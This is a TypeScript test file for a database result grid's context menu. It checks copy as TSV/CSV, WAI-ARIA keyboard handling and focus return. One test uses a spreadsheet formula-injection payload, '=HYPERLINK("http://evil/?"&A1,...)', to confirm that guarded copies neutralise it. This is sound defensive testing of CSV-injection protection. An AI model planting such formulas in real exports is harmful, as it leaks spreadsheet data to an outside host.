// The results grid's menu, through real mouse and key events: copy as TSV or CSV (formula guard
// on), copy values as-is, the whole value, select all; the WAI-ARIA menu keys; the focus back on the grid.
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import type { CellValue, RowPage } from "./api";
import { ResultGrid } from "./grid";
import { frame, gridRoot, succeeded } from "./test-results";

const RESULT = succeeded([
    { name: "id", dataType: "bigint" },
    { name: "note", dataType: "varchar" },
  ], 50, 1, 1);

function rows(offset: number, limit: number): CellValue[][] {
  return Array.from({ length: limit }, (_, i) => [offset + i, i % 2 === 0 ? "a,b" : null]);
}


let root: HTMLElement;

beforeEach(() => {
  root = gridRoot();
});

afterEach(() => {
  document.body.innerHTML = "";
});

async function mount(rowsOf = rows) {
  const fetchRows = vi.fn(async (_id: string, offset: number, limit: number): Promise<RowPage> => ({ rows: rowsOf(offset, limit) }));
  const copy = vi.fn((_text: string) => Promise.resolve());
  const onExpand = vi.fn();
  const onCopied = vi.fn();
  const grid = new ResultGrid(root, { fetchRows, copy, onExpand, onCopied, onError: () => undefined, overscan: 2 });
  grid.show(RESULT);
  await frame();
  return { grid, copy, onExpand, onCopied };
}

function menu(): HTMLElement | null {
  return document.querySelector<HTMLElement>("[role=menu]");
}

function items(): HTMLElement[] {
  return [...document.querySelectorAll<HTMLElement>("[role=menuitem]")];
}

function key(target: Element, name: string, init: KeyboardEventInit = {}): KeyboardEvent {
  const event = new KeyboardEvent("keydown", { key: name, bubbles: true, cancelable: true, ...init });
  target.dispatchEvent(event);
  return event;
}

describe("the grid's menu", () => {
  it("opens on a right click, picking the cell, with its items named and the first focused", async () => {
    const { grid } = await mount();
    const cell = root.querySelector('.grid-row[data-index="3"] .grid-cell[data-column="1"]') as HTMLElement;
    const event = new MouseEvent("contextmenu", { bubbles: true, cancelable: true, clientX: 120, clientY: 80 });
    cell.dispatchEvent(event);
    expect(event.defaultPrevented).toBe(true);
    expect(grid.selection).toEqual({ firstRow: 3, lastRow: 3, firstColumn: 1, lastColumn: 1 });
    expect(menu()?.getAttribute("aria-label")).toBe("Result");
    expect(menu()?.style.left).toBe("120px");
    expect(items().map((item) => item.querySelector(".grid-menu-label")?.textContent)).toEqual([
      "Copy as TSV",
      "Copy as CSV",
      "Copy values as-is (TSV)",
      "Copy values as-is (CSV)",
      "Show the whole value",
      "Select all rows",
    ]);
    expect(items().map((item) => item.getAttribute("aria-keyshortcuts"))).toEqual(["Control+C", "Control+Shift+C", null, null, "Enter", "Control+A"]);
    expect(document.activeElement).toBe(items()[0]);
    grid.destroy();
  });

  it("keeps a selection the right click falls in, and copies it as CSV from the keyboard", async () => {
    const { grid, copy, onCopied } = await mount();
    grid.select({ row: 0, column: 0 }, { row: 1, column: 1 });
    root.querySelector('.grid-row[data-index="1"] .grid-cell[data-column="0"]')?.dispatchEvent(new MouseEvent("contextmenu", { bubbles: true, cancelable: true }));
    expect(grid.selection).toEqual({ firstRow: 0, lastRow: 1, firstColumn: 0, lastColumn: 1 });
    const open = menu() as HTMLElement;
    key(open, "ArrowDown");
    expect(document.activeElement).toBe(items()[1]);
    // Enter on a menu item is a click.
    (document.activeElement as HTMLElement).click();
    await vi.waitFor(() => expect(copy).toHaveBeenCalledWith('id,note\r\n0,"a,b"\r\n1,\r\n'));
    await vi.waitFor(() => expect(onCopied).toHaveBeenCalledWith("Copied 2 rows as CSV."));
    expect(menu()).toBeNull();
    expect(document.activeElement).toBe(root);
    grid.destroy();
  });

  it("opens at the active cell with Shift+F10 or the Menu key; Esc closes it and gives the grid the focus back", async () => {
    const { grid, onExpand, copy } = await mount();
    root.focus();
    key(root, "ArrowDown");
    key(root, "F10", { shiftKey: true });
    expect(menu()).not.toBeNull();
    expect(grid.selection).toEqual({ firstRow: 1, lastRow: 1, firstColumn: 0, lastColumn: 0 });
    const open = menu() as HTMLElement;
    key(open, "End");
    expect(document.activeElement).toBe(items()[5]);
    key(open, "ArrowDown");
    expect(document.activeElement).toBe(items()[0]);
    key(open, "ArrowUp");
    key(open, "ArrowUp");
    expect(document.activeElement).toBe(items()[4]);
    const escape = key(open, "Escape");
    expect(escape.defaultPrevented).toBe(true);
    expect(menu()).toBeNull();
    expect(document.activeElement).toBe(root);
    expect(copy).not.toHaveBeenCalled();

    // The keydown opens it; the contextmenu event the webview sends after goes to the menu
    // (which has the focus by then) and opens nothing more, neither ours nor its own.
    key(root, "ContextMenu");
    const native = new MouseEvent("contextmenu", { bubbles: true, cancelable: true });
    document.activeElement?.dispatchEvent(native);
    expect(native.defaultPrevented).toBe(true);
    expect(document.querySelectorAll("[role=menu]")).toHaveLength(1);
    items()[4].click();
    expect(onExpand).toHaveBeenCalledWith("id", 1);
    expect(menu()).toBeNull();
    grid.destroy();
  });

  it("opens at the active cell on a contextmenu event the keyboard sent to the grid", async () => {
    const { grid } = await mount();
    root.focus();
    key(root, "ArrowRight");
    const event = new MouseEvent("contextmenu", { bubbles: true, cancelable: true });
    root.dispatchEvent(event);
    expect(event.defaultPrevented).toBe(true);
    expect(menu()).not.toBeNull();
    expect(grid.selection).toEqual({ firstRow: 0, lastRow: 0, firstColumn: 1, lastColumn: 1 });
    expect(items()[4].getAttribute("aria-disabled")).toBeNull();
    key(menu() as HTMLElement, "Tab");
    expect(menu()).toBeNull();
    expect(document.activeElement).toBe(root);
    grid.destroy();
  });

  it("offers no value on a header, selects all, and closes on a click elsewhere", async () => {
    const { grid, onCopied } = await mount();
    root.querySelector('.grid-head-cell[data-column="1"]')?.dispatchEvent(new MouseEvent("contextmenu", { bubbles: true, cancelable: true }));
    expect(grid.selection).toEqual({ firstRow: 0, lastRow: 49, firstColumn: 1, lastColumn: 1 });
    expect(items()[4].getAttribute("aria-disabled")).toBe("true");
    // Disabled items are skipped by the arrows and do nothing when clicked.
    for (let i = 0; i < 4; i++) key(menu() as HTMLElement, "ArrowDown");
    expect(document.activeElement).toBe(items()[5]);
    items()[4].click();
    expect(menu()).not.toBeNull();
    items()[5].click();
    expect(onCopied).toHaveBeenCalledWith("Selected all 50 rows.");
    expect(grid.selection).toEqual({ firstRow: 0, lastRow: 49, firstColumn: 0, lastColumn: 1 });

    root.querySelector('.grid-row[data-index="0"] .grid-cell')?.dispatchEvent(new MouseEvent("contextmenu", { bubbles: true, cancelable: true }));
    expect(menu()).not.toBeNull();
    document.body.dispatchEvent(new MouseEvent("mousedown", { bubbles: true }));
    expect(menu()).toBeNull();
    grid.destroy();
  });

  it("copies values as-is from its own items, where Copy as TSV or CSV guards them", async () => {
    const hostile = (offset: number, limit: number): CellValue[][] =>
      Array.from({ length: limit }, (_, i) => [offset + i - 1, offset + i === 0 ? '=HYPERLINK("http://evil/?"&A1,"x")' : "@SUM(A1)"]);
    const { grid, copy, onCopied } = await mount(hostile);
    grid.select({ row: 0, column: 0 }, { row: 1, column: 1 });
    const pick = async (label: string) => {
      root.querySelector('.grid-row[data-index="0"] .grid-cell[data-column="1"]')?.dispatchEvent(new MouseEvent("contextmenu", { bubbles: true, cancelable: true }));
      const item = items().find((candidate) => candidate.querySelector(".grid-menu-label")?.textContent === label);
      expect(item?.getAttribute("aria-disabled")).toBeNull();
      const calls = copy.mock.calls.length;
      item?.click();
      await vi.waitFor(() => expect(copy).toHaveBeenCalledTimes(calls + 1));
      expect(menu()).toBeNull();
    };

    await pick("Copy values as-is (TSV)");
    expect(copy).toHaveBeenLastCalledWith('id\tnote\n-1\t"=HYPERLINK(""http://evil/?""&A1,""x"")"\n0\t@SUM(A1)\n');
    await vi.waitFor(() => expect(onCopied).toHaveBeenLastCalledWith("Copied 2 rows as TSV, values as-is (no formula guard)."));

    await pick("Copy values as-is (CSV)");
    expect(copy).toHaveBeenLastCalledWith('id,note\r\n-1,"=HYPERLINK(""http://evil/?""&A1,""x"")"\r\n0,@SUM(A1)\r\n');
    await vi.waitFor(() => expect(onCopied).toHaveBeenLastCalledWith("Copied 2 rows as CSV, values as-is (no formula guard)."));

    await pick("Copy as TSV");
    expect(copy).toHaveBeenLastCalledWith(`id\tnote\n-1\t"'=HYPERLINK(""http://evil/?""&A1,""x"")"\n0\t'@SUM(A1)\n`);
    await vi.waitFor(() =>
      expect(onCopied).toHaveBeenLastCalledWith("Copied 2 rows as TSV; 2 values starting like a formula got a leading ' (menu: Copy values as-is)."),
    );
    expect(grid.selection).toEqual({ firstRow: 0, lastRow: 1, firstColumn: 0, lastColumn: 1 });
    grid.destroy();
  });

  it("offers no copy at all, guarded or as-is, when the window has no clipboard", async () => {
    const grid = new ResultGrid(root, { fetchRows: async (_id, offset, limit) => ({ rows: rows(offset, limit) }), onError: () => undefined, overscan: 2 });
    grid.show(RESULT);
    await frame();
    root.querySelector('.grid-row[data-index="0"] .grid-cell[data-column="1"]')?.dispatchEvent(new MouseEvent("contextmenu", { bubbles: true, cancelable: true }));
    expect(items().slice(0, 4).map((item) => item.getAttribute("aria-disabled"))).toEqual(["true", "true", "true", "true"]);
    key(menu() as HTMLElement, "Escape");
    grid.destroy();
  });
});
